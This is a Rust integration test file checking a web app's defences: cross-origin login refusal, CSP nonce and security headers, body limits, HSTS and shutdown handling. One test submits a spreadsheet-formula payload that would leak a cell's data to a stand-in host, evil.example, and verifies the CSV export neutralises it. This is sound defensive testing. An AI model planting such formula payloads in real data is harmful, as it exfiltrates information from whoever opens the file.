//! Web safety over HTTP: cross-origin writes, security headers, CSP nonce, body limit,
//! health check, no internal details in errors, clear start-up errors.

use crate::support;

use app::auth::Role;
use reqwest::StatusCode;
use support::{TestApp, PASSWORD};

#[tokio::test]
async fn cross_origin_writes_are_refused() {
    let (app, _dir) = TestApp::fresh().await;
    app.user("pat@example.org", Role::Facilitator).await;
    let mut c = app.client();
    let form = [("email", "pat@example.org"), ("password", PASSWORD)];
    let r = c.post_form("login", &form, &[("origin", "http://evil.example")]).await;
    assert_eq!(r.status, StatusCode::FORBIDDEN);
    assert!(r.body.contains("another website"));
    let r = c.post_form("login", &form, &[("sec-fetch-site", "cross-site")]).await;
    assert_eq!(r.status, StatusCode::FORBIDDEN);
    assert!(c.cookie.is_none(), "no session was made");
    // The same form from this site's own page works, and redirects like a browser form.
    let origin = app.base.clone();
    let r = c.post_form("login", &form, &[("origin", &origin), ("sec-fetch-site", "same-origin")]).await;
    assert_eq!(r.status, StatusCode::FOUND, "{}", r.body);
    assert_eq!(r.headers["location"], "/account");
    app.stop().await;
}

#[tokio::test]
async fn server_functions_do_not_answer_get() {
    let (app, _dir) = TestApp::fresh().await;
    let r = app.client().get("/api/logout").await;
    assert!(r.status == StatusCode::METHOD_NOT_ALLOWED || r.status == StatusCode::NOT_FOUND, "{}", r.status);
    app.stop().await;
}

#[tokio::test]
async fn a_form_post_without_javascript_redirects_back_with_the_error() {
    let (app, _dir) = TestApp::fresh().await;
    let mut c = app.client();
    let r = c.post_form("login", &[("email", "x@example.org"), ("password", "wrong password!")], &[]).await;
    assert_eq!(r.status, StatusCode::FOUND, "a redirect, not an error page");
    let location = r.headers["location"].to_str().unwrap();
    assert!(location.starts_with(&format!("{}/login?", app.base)) && location.contains("__err="), "{location}");
    app.stop().await;
}

#[tokio::test]
async fn pages_carry_security_headers_and_a_nonce_csp() {
    let (app, _dir) = TestApp::fresh().await;
    let r = app.client().get("/login").await;
    assert_eq!(r.status, StatusCode::OK);
    let h = |name: &str| r.headers.get(name).map(|v| v.to_str().unwrap().to_string()).unwrap_or_default();
    let csp = h("content-security-policy");
    assert!(
        csp.contains("frame-ancestors 'none'") && csp.contains("'wasm-unsafe-eval'") && !csp.contains("unsafe-inline"),
        "{csp}"
    );
    let nonce = csp.split("'nonce-").nth(1).and_then(|s| s.split('\'').next()).expect("a nonce in the CSP");
    assert!(r.body.contains(&format!("nonce=\"{nonce}\"")), "the inline hydration script carries the same nonce");
    assert_eq!(h("x-content-type-options"), "nosniff");
    assert_eq!(h("referrer-policy"), "same-origin");
    assert_eq!(h("cache-control"), "no-store");
    // A second page gets a different nonce.
    let again = app.client().get("/login").await;
    assert_ne!(again.headers["content-security-policy"].to_str().unwrap(), csp);
    // Other responses get the policy too.
    let health = app.client().get("/healthz").await;
    assert!(health.headers["content-security-policy"].to_str().unwrap().contains("frame-ancestors 'none'"));
    app.stop().await;
}

#[tokio::test]
async fn oversized_bodies_get_413() {
    let (app, _dir) = TestApp::fresh().await;
    let big = "x".repeat(server::BODY_LIMIT + 10);
    let r = app.client().call("login", &[("email", "a@example.org"), ("password", &big)]).await;
    assert_eq!(r.status, StatusCode::PAYLOAD_TOO_LARGE);
    app.stop().await;
}

#[tokio::test]
async fn health_check_and_not_found_page() {
    let (app, _dir) = TestApp::fresh().await;
    let r = app.client().get("/healthz").await;
    assert_eq!((r.status, r.body.as_str()), (StatusCode::OK, "ok"));
    let r = app.client().get("/no/such/page").await;
    assert_eq!(r.status, StatusCode::NOT_FOUND);
    assert!(r.body.contains("We could not find that page"));
    app.stop().await;
}

#[tokio::test]
async fn malformed_requests_get_a_plain_message_without_internals() {
    let (app, _dir) = TestApp::fresh().await;
    let r = app.client().call("set_member_role", &[("user_id", "not-a-number")]).await;
    assert!(r.status.is_client_error(), "{}", r.status);
    assert!(!r.body.contains("serde") && !r.body.contains("invalid digit"), "{}", r.body);
    app.stop().await;
}

#[tokio::test]
async fn clear_errors_for_a_bad_database_path_and_a_taken_port() {
    let err =
        server::Application::build(support::config("sqlite:///proc/no-such-dir/x.db")).await.err().expect("fails");
    assert!(err.to_string().starts_with("cannot open the database at sqlite:///proc/no-such-dir/x.db"), "{err}");

    let (app, dir) = TestApp::fresh().await;
    let mut config = support::config(&format!("sqlite://{}/other.db", dir.path().display()));
    config.addr = app.base.trim_start_matches("http://").parse().unwrap();
    let err = server::Application::build(config).await.err().expect("fails");
    assert!(
        err.to_string().contains("cannot listen on") && err.to_string().contains("already using that port"),
        "{err}"
    );
    app.stop().await;
}

/// HSTS only when the site is served over HTTPS (secure cookies on): over plain HTTP it
/// would be ignored at best, and would lock a misconfigured site out at worst.
#[tokio::test]
async fn strict_transport_security_comes_with_secure_cookies() {
    let (app, _dir) = TestApp::fresh().await;
    let r = app.client().get("/login").await;
    assert!(r.headers.get("strict-transport-security").is_none());
    app.stop().await;

    let dir = tempfile::tempdir().unwrap();
    let mut config = support::config(&format!("sqlite://{}/tls.db", dir.path().display()));
    config.secure_cookies = true;
    let app = TestApp::spawn_with(config).await;
    for path in ["/login", "/healthz", "/no/such/page"] {
        let r = app.client().get(path).await;
        let hsts =
            r.headers.get("strict-transport-security").map(|v| v.to_str().unwrap().to_string()).unwrap_or_default();
        assert!(
            hsts.starts_with("max-age=") && hsts["max-age=".len()..].parse::<u64>().unwrap() >= 31_536_000,
            "{path}: {hsts:?}"
        );
    }
    app.stop().await;
}

/// A visitor's answer that a spreadsheet would run as a formula comes out of the export as
/// text (finding 6): the cell starts with `'`.
#[tokio::test]
async fn exported_answers_never_run_as_spreadsheet_formulas() {
    let (app, _dir) = TestApp::fresh().await;
    let mut gp = app.signed_in("gp@example.org", Role::DesignGroup).await;
    let r = gp
        .call(
            "create_prototype",
            &[
                ("title", "Living Well Hub"),
                ("summary", "One front door"),
                ("body", "## The problem\n\nPeople wait.\n"),
                ("themes", "hub"),
            ],
        )
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    let proto = r.headers["location"].to_str().unwrap().split('/').nth(2).unwrap().to_string();
    let r = gp.call("publish_iteration", &[("id", &proto), ("change_note", "First try")]).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    let now = chrono::Utc::now().timestamp();
    let (opens, closes) = (app::time::to_local_input(now - 60), app::time::to_local_input(now + 86_400));
    let form = [
        ("prototype", proto.as_str()),
        ("iteration", "1"),
        ("title", "Thoughts"),
        ("purpose", "Tell us."),
        ("audience", "public"),
        ("opens", &opens),
        ("closes", &closes),
        ("kind[]", "text"),
        ("prompt[]", "=1+1 what would help?"),
        ("options[]", ""),
        ("low[]", ""),
        ("high[]", ""),
        ("required[]", "yes"),
    ];
    let r = gp.call("open_round", &form).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    let round =
        r.headers["location"].to_str().unwrap().split('/').nth(2).unwrap().split('?').next().unwrap().to_string();

    let attack = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click for details\")";
    let mut visitor = app.client();
    let page: serde_json::Value =
        serde_json::from_str(&visitor.call("load_round", &[("id", &round)]).await.body).unwrap();
    let q = page["questions"][0]["id"].as_i64().unwrap();
    let key = page["key"].as_str().unwrap().to_string();
    let field = format!("answers[q{q}]");
    let r = visitor
        .call(
            "submit_response",
            &[("round", &round), ("key", &key), (&field, attack), ("consent", "quote_anonymously")],
        )
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);

    for audience in ["publication", "design_group"] {
        let csv = gp.get(&format!("/consultations/{round}/responses.csv?for={audience}")).await;
        assert_eq!(csv.status, StatusCode::OK, "{}", csv.body);
        // The csv crate quotes the cell (it holds quotes), so the `'` follows the opening quote.
        assert!(csv.body.contains("\"'=HYPERLINK("), "{audience}: {}", csv.body);
        assert!(
            !csv.body.contains(",=")
                && !csv.body.contains(",\"=")
                && !csv.body.contains("\n=")
                && !csv.body.contains("\n\"="),
            "{audience}: {}",
            csv.body
        );
        assert!(csv.body.contains("'=1+1 what would help?"), "headers too: {}", csv.body);
    }
    app.stop().await;
}

/// A browser opens speculative connections it may never use, and a stranger can send half a
/// request and stop. Neither may keep the server from stopping: requests in flight get the
/// shutdown grace (2 s in tests), then what is still open is closed. (A test server once hung
/// in `stop()` with one connection open.)
#[tokio::test]
async fn a_silent_or_half_sent_connection_does_not_hold_the_server_open() {
    use tokio::io::AsyncWriteExt;
    let (app, _dir) = TestApp::fresh().await;
    let addr = app.base.trim_start_matches("http://").to_string();
    let silent = tokio::net::TcpStream::connect(&addr).await.unwrap();
    let mut half = tokio::net::TcpStream::connect(&addr).await.unwrap();
    half.write_all(b"GET /healthz HTTP/1.1\r\nHost: x\r\n").await.unwrap();
    // A whole request on a third connection: by its answer the server is serving.
    assert_eq!(app.client().get("/healthz").await.status, StatusCode::OK);
    // stop() fails the test if the server is still running 60 s after being asked to stop.
    app.stop().await;
    drop((silent, half));
}
